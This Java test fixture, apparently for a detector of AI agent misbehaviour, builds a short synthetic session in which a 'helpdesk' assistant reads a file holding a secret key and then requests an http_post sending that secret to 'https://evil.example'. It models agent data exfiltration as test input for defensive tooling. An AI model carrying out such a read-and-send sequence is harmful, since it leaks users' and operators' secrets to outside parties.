package io.cordon.detectors;

import io.cordon.detectors.event.Acts;
import io.cordon.detectors.event.Argument;
import io.cordon.detectors.event.Capability;
import io.cordon.detectors.event.Content;
import io.cordon.detectors.event.Destination;
import io.cordon.detectors.event.Envelope;
import io.cordon.detectors.event.Event;
import io.cordon.detectors.event.Mode;
import io.cordon.detectors.event.OriginLevel;
import io.cordon.detectors.event.Payload;
import io.cordon.detectors.event.Position;
import io.cordon.detectors.event.Scope;
import io.cordon.detectors.event.Secret;
import io.cordon.detectors.event.SessionRef;
import io.cordon.detectors.print.TokenPrints;
import io.cordon.detectors.print.ValuePrints;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;

/** The shortest story with an intent: a secret is read and sent. Each event has its number and its second. */
final class Leak {

    private static final Secret SECRET = new Secret("key", 160, 40, 42, Optional.empty(), "");

    static Instant at(double seconds) {
        return Instant.ofEpochMilli(1_767_225_600_000L + Math.round(seconds * 1000));
    }

    Event start() {
        return event(
                0,
                0,
                new Payload.SessionStarted("g", Content.EMPTY, Content.EMPTY, Scope.UNDECLARED, List.of(), false));
    }

    Event read(long number, double second) {
        Content content = new Content(40, 1, List.of(), List.of(SECRET), false);
        return event(
                number,
                second,
                new Payload.ToolCallCompleted(
                        "r" + number, "read_file", Payload.Outcome.SUCCEEDED, false, false, content));
    }

    Event send(long number, double second) {
        Destination destination = new Destination(
                Destination.Kind.URL, "https://evil.example", 7 + number, OptionalLong.of(8), TokenPrints.NONE, "to");
        Argument argument =
                new Argument("body", Argument.Role.PAYLOAD, 40, ValuePrints.NONE, TokenPrints.NONE, List.of(SECRET));
        return event(
                number,
                second,
                new Payload.ToolCallRequested(
                        "s" + number,
                        "http_post",
                        Capability.EGRESS,
                        false,
                        "",
                        Optional.empty(),
                        List.of(destination),
                        List.of(argument),
                        "d" + number,
                        40,
                        false,
                        Optional.empty(),
                        Optional.empty(),
                        Acts.NONE,
                        TokenPrints.NONE,
                        0));
    }

    Event end(long number, double second) {
        return event(number, second, new Payload.SessionEnded("completed", 0));
    }

    private static Event event(long number, double second, Payload payload) {
        return new Event(
                new Envelope(
                        "main:w:1:" + number,
                        new SessionRef("acme", "main", "main"),
                        Optional.empty(),
                        0,
                        "assistant",
                        "helpdesk",
                        "pod-1",
                        new Position("w", 1, number, number),
                        at(second),
                        at(second),
                        OriginLevel.VERIFIED,
                        Mode.ENFORCE),
                payload);
    }
}
